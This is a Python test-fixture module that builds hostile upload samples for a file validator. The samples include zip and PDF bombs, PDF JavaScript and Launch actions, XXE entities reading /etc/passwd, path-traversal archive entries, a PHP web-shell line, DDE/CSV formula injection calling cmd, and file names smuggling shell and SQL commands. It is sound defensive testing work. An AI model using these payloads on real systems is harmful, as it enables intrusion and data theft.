"""Hostile uploads in classes, built by a seeded generator. Nothing here is live but the harmless test file EICAR."""

from __future__ import annotations

import io
import itertools
import stat
import struct
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from enum import StrEnum
from random import Random
from typing import Any

import pikepdf

from tests import sample_files as honest

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPTS = (b"<script>alert(1)</script>", b"<svg onload=alert(1)>", b"<?php system($_GET[0]); ?>", b"<html><body>")
NESTED = (b"PK\x03\x04", b"Rar!\x1a\x07\x00", b"7z\xbc\xaf\x27\x1c", b"\x1f\x8b\x08\x00", b"MZ\x90\x00", b"\x7fELF")


class Fate(StrEnum):
    """What has to become of a file."""

    REFUSED = "refused"
    KEPT = "kept"  # its name was the hostile part
    EITHER = "either"  # damaged at random: anything but an error


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file as an attacker hands it in."""

    group: str
    name: str
    content: bytes
    fate: Fate = Fate.REFUSED


Maker = Callable[[Random], tuple[str, bytes]]


def hostile_files(count: int, seed: int = 5) -> Iterator[Hostile]:
    """Yield so many files, one class after the other, each time another of its tricks."""
    random = Random(seed)  # noqa: S311  nothing secret depends on it
    tricks = {group: itertools.cycle(makers) for group, makers in CLASSES.items()}
    for group in itertools.islice(itertools.cycle(CLASSES), count):
        name, content = next(tricks[group])(random)
        yield Hostile(group, name, content, FATES.get(group, Fate.REFUSED))


def _noise(random: Random, most: int = 40) -> bytes:
    return random.randbytes(random.randint(1, most))


def _action(**entries: Any) -> Callable[[pikepdf.Pdf], None]:
    """Return what makes a PDF do something when it is opened."""

    def change(document: pikepdf.Pdf) -> None:
        action = pikepdf.Dictionary({f"/{key}": value for key, value in entries.items()})
        document.Root["/OpenAction"] = document.make_indirect(action)

    return change


def _attached(document: pikepdf.Pdf) -> None:
    document.attachments["a.exe"] = b"MZ"


def _root(key: str, value: Any) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root[key] = document.make_indirect(value)

    return change


def _page_action(document: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    document.pages[0].obj["/AA"] = pikepdf.Dictionary(O=script)


def _annotation(subtype: str) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype), Rect=[0, 0, 9, 9])
        document.pages[0].obj["/Annots"] = pikepdf.Array([note])

    return change


JAVASCRIPT = _action(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
PACKED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}


def _overlapping(_random: Random) -> tuple[str, bytes]:
    """Return a package in which two entries of the directory point at the same bytes."""
    raw = bytearray(honest.docx({"word/media/a.xml": b"a" * 50_000, "word/media/b.xml": b"a" * 50_000}))
    places = [at for at in range(len(raw) - 4) if raw[at : at + 4] == b"PK\x01\x02"]
    raw[places[-1] + 42 : places[-1] + 46] = raw[places[-2] + 42 : places[-2] + 46]
    return "ueberlappt.docx", bytes(raw)


def _lying_about_size(_random: Random) -> tuple[str, bytes]:
    raw = bytearray(honest.docx({"word/media/a.xml": b"a" * 500_000}))
    at = raw.rfind(b"PK\x01\x02")
    raw[at + 24 : at + 28] = struct.pack("<I", 100)
    return "luegt.docx", bytes(raw)


def _flagged(bit: int, method: int | None = None) -> Maker:
    def make(_random: Random) -> tuple[str, bytes]:
        raw = bytearray(honest.docx())
        at = raw.rfind(b"PK\x01\x02")
        raw[at + 8] |= bit
        if method is not None:
            raw[at + 10 : at + 12] = struct.pack("<H", method)
        return "kennwort.docx", bytes(raw)

    return make


def _entry(name: str, mode: int = 0, content: bytes = b"/etc/passwd") -> Maker:
    def make(_random: Random) -> tuple[str, bytes]:
        out = io.BytesIO(honest.docx())
        with zipfile.ZipFile(out, "a") as package:
            entry = zipfile.ZipInfo("x" * len(name))
            entry.external_attr = mode << 16
            package.writestr(entry, content)
        return "eintrag.docx", out.getvalue().replace(b"x" * len(name), name.encode("latin-1"))

    return make


def _with_password(_random: Random) -> tuple[str, bytes]:
    return "geheim.pdf", honest.pdf(encryption=pikepdf.Encryption(owner="o", user="u"))


def _nested_arrays(_random: Random) -> tuple[str, bytes]:
    nest = pikepdf.Object.parse(b"[" * 400 + b"]" * 400)
    return "tief.pdf", honest.pdf(change=lambda document: document.Root.__setitem__("/Deep", nest))


def _packed_again(document: pikepdf.Pdf) -> None:
    stream = document.make_stream(b"x")
    stream.Filter = pikepdf.Array([pikepdf.Name.ASCIIHexDecode] * 9)
    document.Root["/Data"] = stream


def _named(name: str, content: Callable[[], bytes]) -> Maker:
    return lambda _random: (name, content())


def _only_named(name: str) -> Maker:
    return lambda random: (name, b"Nur Text %d.\n" % random.randrange(10**9))


def _cut(name: str) -> Maker:
    def make(random: Random) -> tuple[str, bytes]:
        whole = honest.honest()[name]
        return name, whole[: random.randint(12, len(whole) - 3)]

    return make


def _flipped(name: str) -> Maker:
    def make(random: Random) -> tuple[str, bytes]:
        raw = bytearray(honest.honest()[name])
        for _time in range(random.randint(1, 30)):
            raw[random.randrange(len(raw))] = random.randrange(256)
        return name, bytes(raw)

    return make


def _tailed(name: str, tail: Callable[[Random], bytes]) -> Maker:
    return lambda random: (name, honest.honest()[name] + tail(random))


def _docx(parts: dict[str, bytes | str], name: str = "brief.docx", **more: Any) -> Maker:
    return lambda _random: (name, honest.docx(parts, **more))


def _relation(kind: str, target: str) -> str:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        f'<Relationships xmlns="{honest.RELATIONS}"><Relationship Id="r9" Type="{office}/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )


def _holding(sign: bytes) -> Maker:
    return lambda random: ("datei.docx", honest.docx({"word/media/datei": sign + _noise(random)}))


XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
LAUGHS = '<!DOCTYPE l [<!ENTITY a "lol">' + "".join(f'<!ENTITY a{n} "&a;&a;">' for n in range(9)) + "]><l/>"
EVIL_NAMES = (
    "../../../etc/passwd.txt",
    "..\\..\\windows\\win.txt",
    "/etc/cron.d/job.txt",
    "C:\\autoexec.txt",
    "Rechnung\u202etxt.exe.txt",
    "a\x00b.txt",
    "\u200b\u2066.txt",
    "x" * 300 + ".txt",
    "ä" * 200 + ".txt",
    "con.txt",
    'a"; filename="b.html.txt',
    "a\r\nContent-Type: text/html\r\n\r\n.txt",
    "%2e%2e%2fetc%2fpasswd.txt",
    "$(reboot).txt",
    "<img src=x onerror=alert(1)>.txt",
    "{{7*7}}{% debug %}.txt",
    "' OR 1=1 --.txt",
    "🏥.txt",
    "a.txt.",
    ".txt",
    "   .txt",
    "a;b.txt",
    "=cmd|x!A0.txt",
    "&lt;b&gt;.txt",
)

CLASSES: dict[str, tuple[Maker, ...]] = {
    "polyglot": (
        _tailed("Bild.png", lambda random: random.choice(SCRIPTS)),
        _tailed("Bild.png", lambda _random: honest.docx()),
        _tailed("Foto.jpg", lambda _random: honest.docx()),
        _tailed("Konzept.pdf", lambda _random: honest.docx()),
        _tailed("Konzept.pdf", lambda random: random.choice(SCRIPTS)),
        lambda random: ("bild.jpg", honest.jpeg(comment=random.choice(SCRIPTS))),
        lambda random: ("bild.png", honest.png(more=honest.chunk(b"tEXt", b"Comment\0" + random.choice(SCRIPTS)))),
        lambda _random: ("doppelt.docx", honest.packed({"a": b"b"}) + honest.docx()),
        lambda random: ("vorn.pdf", random.choice(SCRIPTS) + honest.pdf()),
        lambda _random: ("gif.png", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)"),
    ),
    "bomb": (
        lambda random: ("nullen.docx", honest.docx({"word/media/a.bmp": b"\0" * random.randint(8, 16) * 2**20})),
        _overlapping,
        _lying_about_size,
        lambda _random: ("viele.xlsx", honest.xlsx({f"xl/media/{n}": b"" for n in range(5100)})),
        lambda random: ("pixel.png", honest.png(width=random.randint(60_000, 99_999), height=99_999)),
        lambda _random: ("filter.pdf", honest.pdf(change=_packed_again)),
        _nested_arrays,
    ),
    "macros": (
        _docx({"word/vbaProject.bin": b"x"}),
        _docx(
            {
                "[Content_Types].xml": honest.types(
                    "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
                )
            }
        ),
        _docx({"word/activeX/activeX1.xml": b"<a/>"}),
        _docx({"customUI/customUI.xml": b"<a/>"}),
        lambda _random: ("makro.xlsx", honest.xlsx({"xl/macrosheets/sheet1.xml": b"<a/>"})),
        lambda _random: ("makro.xlsx", honest.xlsx({"XL/VBAPROJECT.BIN": b"x"})),
        lambda _random: ("basic.odt", honest.odt({"Basic/Standard/Module1.xml": b"<a/>"})),
        lambda _random: ("ereignis.odt", honest.odt({"content.xml": b"<script:event-listener/>"})),
        _docx({"word/document.xml": '<w:instrText xml:space="preserve"> DDEAUTO c:\\cmd.exe</w:instrText>'}),
        lambda _random: ("makro.docm", honest.docx()),
    ),
    "script pdf": (
        lambda _random: ("js.pdf", honest.pdf(change=JAVASCRIPT)),
        lambda _random: ("js.pdf", honest.pdf(change=JAVASCRIPT, **PACKED)),
        lambda _random: ("seite.pdf", honest.pdf(change=_page_action, **PACKED)),
        lambda _random: ("start.pdf", honest.pdf(change=_action(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))),
        lambda _random: (
            "fern.pdf",
            honest.pdf(change=_action(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\a\\b")), **PACKED),
        ),
        lambda _random: (
            "senden.pdf",
            honest.pdf(change=_action(S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://a"))),
        ),
        lambda _random: ("anhang.pdf", honest.pdf(change=_attached, **PACKED)),
        lambda _random: ("xfa.pdf", honest.pdf(change=_root("/AcroForm", pikepdf.Dictionary(XFA=pikepdf.String("x"))))),
        lambda _random: ("medien.pdf", honest.pdf(change=_annotation("/RichMedia"))),
        lambda _random: ("clip.pdf", honest.pdf(change=_annotation("/FileAttachment"), **PACKED)),
    ),
    "page code": tuple(
        _named(name, lambda code=code: code + b"\n" * 3)  # type: ignore[misc]
        for code in (
            *SCRIPTS,
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
            b"#!/bin/sh\nreboot\n",
        )
        for name in ("seite.html", "bild.svg", "bild.png", "text.txt", "werte.csv", "brief.pdf", "foto.jpg")
    ),
    "fake type": (
        _named("programm.pdf", lambda: b"MZ\x90\x00" + b"\0" * 200),
        _named("programm.docx", lambda: b"\x7fELF" + b"\0" * 200),
        _named("programm.exe", lambda: b"MZ\x90\x00" + b"\0" * 200),
        _named("bild.jpg", honest.png),
        _named("bild.png", honest.jpeg),
        _named("tabelle.xlsx", honest.docx),
        _named("brief.docx", honest.xlsx),
        _named("brief.odt", honest.docx),
        _named("alt.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        _named("text.txt", lambda: b"{\\rtf1 hallo}"),
        _named("text.txt", honest.pdf),
        _named("archiv.zip", honest.docx),
        _named("ohne", honest.pdf),
        _named("brief.pdf.exe", honest.pdf),
    ),
    "evil name": tuple(map(_only_named, EVIL_NAMES)),
    "truncated": tuple(map(_cut, ("Konzept.pdf", "Bild.png", "Foto.jpg", "Bericht.docx", "Tabelle.xlsx", "Text.odt"))),
    "empty": tuple(
        _named(f"leer.{ending}", bytes) for ending in ("pdf", "png", "jpg", "docx", "xlsx", "odt", "txt", "csv")
    ),
    "eicar": (
        _named("eicar.txt", lambda: EICAR),
        _named("eicar.csv", lambda: EICAR + b"\n"),
        lambda _random: ("eicar.docx", honest.packed(_stored_eicar(), stored=frozenset({"word/media/eicar.txt"}))),
    ),
    "entities": (
        _docx({"word/document.xml": XXE}),
        _docx({"docProps/core.xml": XXE.encode("utf-16")}),
        _docx({"word/settings.xml": " " * 300_000 + XXE}),
        lambda _random: ("lachen.xlsx", honest.xlsx({"xl/sharedStrings.xml": LAUGHS})),
        lambda _random: ("lachen.odt", honest.odt({"styles.xml": LAUGHS})),
        _docx({"word/_rels/settings.xml.rels": _relation("attachedTemplate", "http://a.example/t.dotm")}),
        _docx({"word/_rels/document.xml.rels": _relation("oleObject", "http://a.example/x")}),
        _docx({"word/_rels/document.xml.rels": _relation("image", "\\\\a.example\\b")}),
        _docx({"word/_rels/document.xml.rels": _relation("hyperlink", "file:///c:/windows/calc")}),
    ),
    "nested": (
        *map(_holding, NESTED),
        _docx({"word/embeddings/oleObject1.bin": b"x"}),
        _docx({"word/media/brief.docx": honest.docx()}),
        lambda _random: ("objekt.odt", honest.odt({"Object 1/x.zip": honest.packed({"a": b"b"})})),
    ),
    "outside": (
        _entry("word/link", stat.S_IFLNK | 0o777),
        _entry("word/geraet", stat.S_IFCHR | 0o666),
        _entry("../../etc/cron.d/x"),
        _entry("/etc/passwd"),
        _entry("word\\..\\..\\x"),
        _entry("C:/autoexec.bat"),
        _entry("WORD/DOCUMENT.XML"),
    ),
    "encrypted": (
        _flagged(0x1),
        _flagged(0x0, 99),
        _with_password,
        lambda _random: ("geheim.odt", honest.odt(manifest="<manifest:encryption-data/>")),
        _named("geheim.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    ),
    "no text": (
        lambda random: ("rauschen.txt", b"\x81\x00" + _noise(random, 400)),
        _named("nul.csv", lambda: b"a;b\0c\n"),
        _named("dde.csv", lambda: b"a;b\n=cmd|' /C calc'!A0;x\n"),
        _named("dde.csv", lambda: b"a,\"@SUM(1)*cmd|' /C calc'!A0\"\n"),
        _named("dde.txt", lambda: b"+cmd|' /C calc'!A0\n"),
        _named("escape.txt", lambda: b"\x1b]0;a\x07\x1b[2J"),
    ),
    "flipped": tuple(map(_flipped, honest.honest())),
}
FATES = {"evil name": Fate.EITHER, "flipped": Fate.EITHER}


def _stored_eicar() -> dict[str, bytes | str]:
    with zipfile.ZipFile(io.BytesIO(honest.docx())) as package:
        parts: dict[str, bytes | str] = {name: package.read(name) for name in package.namelist()}
    return parts | {"word/media/eicar.txt": EICAR}
